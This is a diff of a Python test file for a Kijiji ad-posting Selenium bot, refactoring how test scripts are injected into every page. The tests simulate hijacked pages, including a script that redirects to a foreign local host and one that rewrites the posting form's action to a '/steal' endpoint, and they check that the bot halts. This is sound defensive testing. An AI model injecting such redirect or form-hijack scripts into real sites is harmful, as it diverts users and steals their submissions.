@@ -4,13 +4,14 @@ from __future__ import annotations
 
 import threading
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import ExitStack
 from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
 from typing import Any
 
 import keyring
 import pytest
+from on_each_page import on_each_page
 from other_site import PICTURES
 from selenium.webdriver.remote.webdriver import WebDriver
 
@@ -84,15 +85,6 @@ def bot(practice: PracticeSite, driver: WebDriver, pictures: Path) -> KijijiBot:
     return bot
 
 
-@contextmanager
-def _injected(driver: WebDriver, source: str) -> Iterator[None]:
-    added = driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": source})  # type: ignore[attr-defined]
-    try:
-        yield
-    finally:
-        driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", added)  # type: ignore[attr-defined]
-
-
 def _leads(path: str, target: str) -> str:
     return f"if (location.pathname.startsWith('{path}')) location.replace('{target}/x')"
 
@@ -102,7 +94,7 @@ def test_a_page_that_leads_elsewhere_ends_the_run_and_nothing_is_typed_there(
     practice: PracticeSite, driver: WebDriver, bot: KijijiBot, foreign: tuple[str, list[str]], path: str
 ) -> None:
     before = practice.ads()
-    with _injected(driver, _leads(path, foreign[0])), pytest.raises(BatchStopped, match=r"'127\.0\.0\.2'"):
+    with on_each_page(driver, _leads(path, foreign[0])), pytest.raises(BatchStopped, match=r"'127\.0\.0\.2'"):
         bot.post_ad(ROW)
     assert {line for line in foreign[1] if "favicon" not in line} == {"GET /x"}
     assert practice.ads() == before
@@ -116,7 +108,7 @@ def test_a_form_that_would_be_sent_elsewhere_is_not_sent(
       const form = document.getElementById("PostAdMainForm");
       if (form) form.action = "{foreign[0]}/steal";
     }})"""
-    with _injected(driver, spoil), pytest.raises(ForeignPage, match=r"sent to '127\.0\.0\.2'"):
+    with on_each_page(driver, spoil), pytest.raises(ForeignPage, match=r"sent to '127\.0\.0\.2'"):
         bot.post_ad(ROW)
     assert foreign[1] == []
     assert practice.ads() == before
@@ -126,7 +118,7 @@ def test_a_click_that_leads_elsewhere_is_settled_under_my_ads(
     practice: PracticeSite, driver: WebDriver, bot: KijijiBot, foreign: tuple[str, list[str]]
 ) -> None:
     count = len(practice.ads())
-    with _injected(driver, _leads("/v-", foreign[0])):
+    with on_each_page(driver, _leads("/v-", foreign[0])):
         result = bot.post_ad(ROW)
     assert result["success"], result
     assert result["ad_url"].startswith(practice.url)
@@ -137,17 +129,13 @@ def test_a_click_after_which_every_page_leads_elsewhere_leaves_the_row_unsure(
     practice: PracticeSite, driver: WebDriver, bot: KijijiBot, foreign: tuple[str, list[str]]
 ) -> None:
     count = len(practice.ads())
-    added: list[dict[str, str]] = []
+    source = _leads("/v-", foreign[0]) + ";" + _leads("/m-my-ads/", foreign[0])
+    with ExitStack() as from_the_click_on:
 
-    def lead_away() -> None:
-        source = {"source": _leads("/v-", foreign[0]) + ";" + _leads("/m-my-ads/", foreign[0])}
-        added.append(driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", source))  # type: ignore[attr-defined]
+        def lead_away() -> None:
+            from_the_click_on.enter_context(on_each_page(driver, source))
 
-    try:
         result = bot.post_ad(ROW, before_submit=lead_away)
-    finally:
-        for one in added:
-            driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", one)  # type: ignore[attr-defined]
     assert (result["success"], result["error_kind"]) == (False, "unknown")
     assert len(practice.ads()) == count + 1
 
